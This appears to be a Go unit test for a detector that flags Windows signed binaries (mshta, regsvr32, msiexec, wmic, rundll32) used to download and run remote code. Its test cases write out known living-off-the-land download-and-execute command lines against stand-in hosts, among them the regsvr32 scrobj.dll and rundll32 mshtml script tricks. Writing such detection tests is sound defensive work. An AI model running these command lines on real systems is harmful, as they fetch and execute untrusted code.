package lolbin

import "testing"

// TestRemote: each signed binary given another machine's address is a
// download run; given a file of this machine, or another program, it is
// not.
func TestRemote(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"mshta", []string{"https://x.example/a.hta"}, "https://x.example/a.hta"},
		{`C:\Windows\System32\MSHTA.EXE`, []string{`\\203.0.113.5\s\a.hta`}, `\\203.0.113.5\s\a.hta`},
		{"regsvr32", []string{"/s", "/n", "/u", "/i:http://x.example/f.sct", "scrobj.dll"}, "http://x.example/f.sct"},
		{"msiexec.exe", []string{"/q", "/i", "https://x.example/p.msi"}, "https://x.example/p.msi"},
		{"wmic", []string{"os", "get", `/format:"https://x.example/s.xsl"`}, "https://x.example/s.xsl"},
		{"rundll32.exe", []string{`javascript:"\..\mshtml,RunHTMLApplication";document.write();GetObject("script:https://x.example/r")`}, "https://x.example/r"},
		{"mshta", []string{"help.hta"}, ""},
		{"msiexec", []string{"/i", "dist/app.msi", "/qn"}, ""},
		{"regsvr32", []string{"/s", "build/x64/plugin.dll"}, ""},
		{"wmic", []string{"os", "get", "/format:list"}, ""},
		{"curl", []string{"https://x.example/a"}, ""},
	} {
		got, ok := Remote(tc.name, tc.args)
		if got != tc.want || ok != (tc.want != "") {
			t.Errorf("Remote(%s %v) = %q %v, want %q", tc.name, tc.args, got, ok, tc.want)
		}
		if ok && !Named(tc.name) {
			t.Errorf("Named(%s) false for a program Remote reads", tc.name)
		}
	}
}
